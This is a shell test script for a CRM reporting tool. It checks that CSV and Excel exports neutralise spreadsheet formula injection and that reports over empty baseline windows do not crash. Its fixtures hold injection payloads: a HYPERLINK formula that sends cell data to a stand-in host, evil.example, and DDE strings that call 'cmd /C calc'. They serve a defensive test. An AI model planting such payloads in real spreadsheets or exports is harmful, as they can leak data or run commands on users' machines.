#!/bin/sh
# fs-report on what a CRM user typed: CSV cells that a spreadsheet would run
# as formulas are neutralised (OWASP: a leading ', the cell quoted), numbers
# stay numbers; and reports whose baseline window holds no pieces (under
# make asan: no qsort or memcpy of a NULL array).
. "$(dirname "$0")/lib.sh"
plan 12

# A contact whose owner is a formula, a piece delivered to it in a campaign
# named like one, a follow-up, and a won deal whose ids and currency are
# formulas and whose amount is negative: all as the real commands store them.
cat >contact.ndjson <<'EOF'
{"type":"record","source":"hubspot","stream":"contacts","data":{"id":"=1+1","properties":{"email":"a@example.com","hubspot_owner_id":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")","lifecyclestage":"customer","lastmodifieddate":"2026-11-16T08:00:00Z"}}}
EOF
FS_NOW=2026-11-16T08:30:00Z fs-normalize -q <contact.ndjson >/dev/null
cat >push.ndjson <<'EOF'
{"type":"event","id":"evt_s1","run_id":"run_t","source":"lob-events","kind":"mail.status","object":"mail:psc_1","occurred_at":"2026-11-20T10:00:00Z","data":{"mail_id":"evt_p1","vendor":"lob","vendor_id":"psc_1","contact_id":"=1+1","campaign":"@thanks","status":"delivered","detail":"postcard.delivered"}}
{"type":"event","id":"evt_a1","run_id":"run_t","source":"hubspot","kind":"activity.follow_up","object":"engagement:a1","occurred_at":"2026-11-23T15:00:00Z","data":{"contact_id":"=1+1","type":"call","owner":"+owner","at":"2026-11-23T15:00:00Z"}}
{"type":"event","id":"evt_r1","run_id":"run_t","source":"hubspot","kind":"outcome.revenue","object":"deal:d1","occurred_at":"2026-11-28T12:00:00Z","data":{"contact_id":"=1+1","deal_id":"@SUM(1+1)*cmd|' /C calc'!A0","amount":-50,"currency":"-2+3+cmd|' /C calc'!A0","at":"2026-11-28T12:00:00Z"}}
{"type":"event","id":"evt_r2","run_id":"run_t","source":"hubspot","kind":"outcome.revenue","object":"deal:-7","occurred_at":"2026-11-29T12:00:00Z","data":{"contact_id":"=1+1","deal_id":"-7","amount":12.5,"currency":"\tUSD","at":"2026-11-29T12:00:00Z"}}
EOF
printf '[target "mail"]\nkind = lob\nurl = http://127.0.0.1:9/v1\ntoken_env = LOB_API_KEY\n' >push.conf
LOB_API_KEY=k FS_NOW=2026-11-29T00:00:00Z fs-push -q -c push.conf mail <push.ndjson
is 'the state holds the values as the CRM sent them' "$(sql "select owner from contacts; select deal_id || ' ' || currency from revenue order by at")" \
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")
@SUM(1+1)*cmd|' /C calc'!A0 -2+3+cmd|' /C calc'!A0
-7 	USD"

run fs-report sla --format csv --from 2026-11-01
tr -d '\r' <"$T/out" >got
is 'sla csv: exit 0' "$status" 0
cat >want <<'EOF'
by,name,owner_name,pieces,followed,med_d,p90_d,med_bd,p90_bd,met,missed,open,met_pct
all,all,,1,1,3.2,3.2,1,1,1,0,0,100.0
campaign,"'@thanks",,1,1,3.2,3.2,1,1,1,0,0,100.0
owner,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1,1,3.2,3.2,1,1,1,0,0,100.0
EOF
check_same 'sla csv: a campaign and an owner that start a formula get a leading quote, quoted' want got
run fs-report outcomes --format csv --from 2026-11-01 --section deals
tr -d '\r' <"$T/out" >got
cat >want <<'EOF'
deal_id,contact_id,amount,currency,won_at,vendor_id,campaign,days_after_mail
"'@SUM(1+1)*cmd|' /C calc'!A0","'=1+1",-50.0,"'-2+3+cmd|' /C c",2026-11-28T12:00:00Z,psc_1,"'@thanks",8.1
-7,"'=1+1",12.5,"'	USD",2026-11-29T12:00:00Z,psc_1,"'@thanks",9.1
EOF
check_same 'outcomes csv: ids and currency neutralised (@ = - tab); a negative amount and a numeric id stay numbers' want got
run fs-report outcomes --format excel-csv --from 2026-11-01 --section deals
printf '\357\273\277deal_id,contact_id,amount,currency,won_at,vendor_id,campaign,days_after_mail\r\n' >want
printf '%s\r\n' "\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'=1+1\",-50.0,\"'-2+3+cmd|' /C c\",2026-11-28 12:00:00,psc_1,\"'@thanks\",8.1" \
	"-7,\"'=1+1\",12.5,\"'	USD\",2026-11-29 12:00:00,psc_1,\"'@thanks\",9.1" >>want
check_same 'excel-csv, byte for byte: a BOM, CRLF, times as Excel reads them, formulas still neutralised' want "$T/out"
is 'every data cell that starts a formula is neutralised' \
	"$(tr -d '\r' <"$T/out" | tail -n +2 | tr ',' '\n' | grep -c '^[=+@	]')" 0
run fs-report outcomes --format json --from 2026-11-01 --section deals
is 'json is not csv: the values as they are' "$(jq -r 'select(.section) | .deal_id' "$T/out" | head -n 1)" \
	"@SUM(1+1)*cmd|' /C calc'!A0"

# An empty baseline window: the pilot table and the dashboard, which make
# asan runs (qsort, memcpy of a NULL array with no samples are undefined).
run fs-report pilot --format csv
is 'pilot with an empty baseline: exit 0' "$status/$(cat "$T/err")" 0/
is 'pilot with an empty baseline: figures for the pilot only' "$(tr -d '\r' <"$T/out" | sed -n '2,4p')" \
'pieces_mailed,pieces,0,1,1
pieces_delivered,pieces,0,1,1
follow_up_median,business days,,1,'
run fs-report sla --format html
is 'the sla dashboard with an empty baseline: exit 0, a page' "$status/$(cat "$T/err")/$(grep -c '</html>' "$T/out")" 0//1
run fs-report sla --format html --from 2026-11-01 --to 2026-11-15
is 'a window with no pieces at all: exit 0, a page' "$status/$(cat "$T/err")/$(grep -c '</html>' "$T/out")" 0//1
run fs-report pilot --baseline 2026-11-01..2026-11-15 --pilot 2026-11-02..2026-11-16 --format text
is 'a pilot table of two empty windows: exit 0' "$status/$(cat "$T/err")" 0/
done_testing
